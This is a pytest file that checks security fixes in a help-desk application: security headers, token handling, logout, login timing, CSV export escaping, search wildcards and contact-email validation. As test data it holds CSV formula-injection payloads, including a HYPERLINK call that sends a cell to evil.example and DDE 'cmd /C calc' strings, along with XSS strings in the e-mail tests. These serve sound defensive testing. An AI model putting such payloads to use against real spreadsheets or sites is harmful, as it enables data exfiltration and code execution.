"""The smaller holes of issue 14, each against the real stack: headers, tokens, logout, timing,
CSV injection, LIKE wildcards, e-mail contacts."""
from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

import bcrypt
import pytest
import websockets

from handoff.tickets import clean_contact
from tests.conftest import Stack


def editor_headers(stack: Stack) -> dict[str, str]:
    response = stack.http.post("/api/editor/login", json={"username": "editor", "password": "editor"})
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['token']}"}


# -- security headers ------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["/console", "/editor", "/demo"])
def test_pages_forbid_framing_and_foreign_scripts(stack: Stack, path: str) -> None:
    response = stack.http.get(path)
    assert response.status_code == 200
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "object-src 'none'" in csp
    assert "unsafe-inline" not in csp
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/api/agent/me", "/api/agent/cases", "/api/editor/faqs", "/health", "/api/nowhere"])
def test_apis_are_not_frameable_or_sniffable(stack: Stack, path: str) -> None:
    response = stack.http.get(path)
    assert response.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert response.headers["x-frame-options"] == "DENY" and response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/widget/tandem-widget.js", "/widget/widget.css", "/editor/editor.js", "/console/static/console.js"])
def test_scripts_and_styles_are_nosniff(stack: Stack, path: str) -> None:
    response = stack.http.get(path)
    assert response.status_code == 200 and response.headers["x-content-type-options"] == "nosniff"
    if path.startswith("/widget/"):
        # Customers' sites load these from another origin: nothing may stop them.
        assert response.headers["cross-origin-resource-policy"] == "cross-origin"
        assert "x-frame-options" not in response.headers and "content-security-policy" not in response.headers


# -- staff tokens: header only; logout really ends the session -------------------------------------
def test_staff_tokens_in_the_query_string_are_not_accepted(stack: Stack) -> None:
    agent = stack.login("agent")
    assert stack.http.get("/api/agent/me", params={"token": agent.token}).status_code == 401
    assert stack.http.post("/api/agent/logout", params={"token": agent.token}).status_code == 401
    assert agent.get("/me").status_code == 200  # ... and that "logout" did not pretend anything
    assert agent.post("/logout").status_code == 200
    assert agent.get("/me").status_code == 401


def console_url(stack: Stack) -> str:
    return stack.settings.web_url.replace("http://", "ws://") + "/api/agent/ws"


async def first(ws: Any) -> dict[str, Any]:
    return json.loads(await asyncio.wait_for(ws.recv(), 30))


def test_console_socket_authenticates_by_header_or_first_frame_only(stack: Stack) -> None:
    agent = stack.login("agent")

    async def scenario() -> tuple[str, str, int | None]:
        async with websockets.connect(console_url(stack), extra_headers=agent.headers) as ws:
            by_header = (await first(ws))["type"]
        async with websockets.connect(console_url(stack)) as ws:
            await ws.send(json.dumps({"type": "auth", "token": agent.token}))
            by_frame = (await first(ws))["type"]
        async with websockets.connect(console_url(stack) + f"?token={agent.token}") as ws:
            await ws.send(json.dumps({"type": "ping"}))  # no auth frame: refused
            refused = await first(ws)
            assert refused["status"] == 401
            await asyncio.wait_for(ws.wait_closed(), 30)
            return by_header, by_frame, ws.close_code

    assert asyncio.run(scenario()) == ("hello", "hello", 4401)


def test_logout_closes_the_console_socket_at_once(stack: Stack) -> None:
    agent = stack.login("agent2")

    async def scenario() -> tuple[list[dict[str, Any]], int | None]:
        seen = []
        async with websockets.connect(console_url(stack), extra_headers=agent.headers) as ws:
            assert (await first(ws))["type"] == "hello"
            assert (await asyncio.to_thread(agent.post, "/logout")).status_code == 200
            try:
                while True:
                    seen.append(await first(ws))
            except websockets.ConnectionClosed:
                pass
            return seen, ws.close_code

    seen, code = asyncio.run(scenario())
    assert code == 4401 and seen[-1] == {"type": "error", "status": 401, "error": "logged out"}


# -- login timing: an unknown name costs one real bcrypt check, like a wrong password ---------------
def test_unknown_user_check_costs_the_same_as_a_real_hash(stack: Stack) -> None:
    import sqlalchemy as sa

    from core.db import async_engine
    from handoff.accounts import Accounts

    async def hashes() -> tuple[bytes, str]:
        engine = async_engine(stack.settings)
        try:
            accounts = Accounts(engine, 1.0)
            dummy = await accounts._unknown_user_hash()  # noqa: SLF001 - the cost is the point
            async with engine.connect() as conn:
                real = (await conn.execute(sa.text("SELECT password_hash FROM accounts WHERE username = 'agent'"))).scalar_one()
            return dummy, real
        finally:
            await engine.dispose()

    dummy, real = asyncio.run(hashes())
    assert dummy.split(b"$")[2] == real.encode().split(b"$")[2]  # same bcrypt cost factor
    assert not bcrypt.checkpw(b"agent", dummy)
    # And the login path with an overlong password (bcrypt 5 raises on > 72 bytes) is a 401, not a 500.
    assert stack.http.post("/api/agent/login", json={"username": "agent", "password": "x" * 500}).status_code == 401
    assert stack.http.post("/api/agent/login", json={"username": "nobody", "password": "x" * 500}).status_code == 401


# -- the editor: CSV export cannot carry formulas; search text is literal --------------------------
def test_csv_export_neutralises_formulas_and_round_trips(stack: Stack) -> None:
    headers = editor_headers(stack)
    hostile = {
        "id": "security-csv-formula", "category": "security", "status": "draft",
        "question": "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
        "answer": "+cmd|' /C calc'!A0", "paraphrases": ["@SUM(1+1)*cmd' /C calc'!A0", "-2+3", "=1+1"],
        "tags": ["'=already quoted"],
    }
    created = stack.http.post("/api/editor/faqs", json=hostile, headers=headers)
    assert created.status_code == 201, created.text
    exported = stack.http.get("/api/editor/export", params={"format": "csv", "status": "draft"}, headers=headers)
    row = next(r for r in csv.DictReader(io.StringIO(exported.text)) if "security-csv-formula" in r["id"])
    for column in ("question", "answer", "paraphrases", "tags"):
        assert row[column].startswith("'"), (column, row[column])
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    # Import the export back: the quotes come off again, the entry is exactly what was stored.
    applied = stack.http.post("/api/editor/import", params={"format": "csv", "apply": "1"}, content=exported.text.encode(), headers=headers)
    assert applied.status_code == 200, applied.text
    again = stack.http.get("/api/editor/faqs/security-csv-formula", headers=headers).json()["faq"]
    assert (again["question"], again["answer"], again["paraphrases"], again["tags"]) == (
        hostile["question"], hostile["answer"], hostile["paraphrases"], hostile["tags"])
    stack.http.delete("/api/editor/faqs/security-csv-formula", headers=headers)


def test_csv_cells_round_trip_exactly() -> None:
    from editor.importing import escape_cell, unescape_cell

    for value in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''@x", "'plain", "plain", "", "a=b"]:
        assert unescape_cell(escape_cell(value)) == value
        assert not escape_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_search_wildcards_are_literal(stack: Stack) -> None:
    headers = editor_headers(stack)
    total = stack.http.get("/api/editor/faqs", headers=headers).json()["total"]
    assert total > 10
    for q in ("%", "_", "%%", "\\"):
        found = stack.http.get("/api/editor/faqs", params={"q": q}, headers=headers).json()
        assert all(q.lower() in json.dumps([f["question"], f["answer"], f["id"], f["paraphrases"]]).lower() or q == "\\"
                   for f in found["faqs"]), q
        assert found["total"] < total, q
    assert stack.http.get("/api/editor/faqs", params={"q": "track"}, headers=headers).json()["total"] >= 1


# -- ticket contacts -------------------------------------------------------------------------
@pytest.mark.parametrize("value", ['"><svg/onload=alert(1)>@e.com', "a@b.com<script>", "a b@c.com", "a..b@c.com", "a@-c.com",
                                   "a@c", "a@c.1x", "(x)@e.com", "a@e.com\n<b>", "@e.com", "a@"])
def test_markup_is_not_an_email(value: str) -> None:
    assert clean_contact(value) is None


@pytest.mark.parametrize("value", ["jo@example.com", "Jo.Smith+tag@mail.example.co.uk", "o'brien@example.ie", "müller@bücher.de"])
def test_real_addresses_are(value: str) -> None:
    assert clean_contact(value) == value.lower()
